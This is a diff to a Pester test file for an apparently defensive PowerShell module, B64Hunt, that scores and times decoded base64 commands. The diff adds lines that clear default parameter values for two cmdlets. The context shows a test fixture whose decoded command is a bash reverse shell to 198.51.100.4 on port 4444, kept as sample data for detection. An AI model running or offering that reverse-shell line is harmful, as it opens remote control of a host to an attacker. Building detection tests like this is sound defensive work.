@@ -1,5 +1,8 @@
 BeforeAll {
     Import-Module $env:B64HUNT_MODULE -Force
+    # Other files pin the notebook through $PSDefaultParameterValues; these tests are about the cmdlets' own default.
+    $PSDefaultParameterValues.Remove('Measure-B64Score:Model')
+    $PSDefaultParameterValues.Remove('Show-B64Timeline:Model')
     $script:T0 = [datetime]::new(2024, 5, 1, 10, 0, 0, [DateTimeKind]::Utc)
     $script:Events = @(
         [B64Hunt.Model.CommandEvent]@{ DecodedCommand = 'bash -i >& /dev/tcp/198.51.100.4/4444 0>&1'; Computer = 'web-03'; TimeGenerated = $T0 }
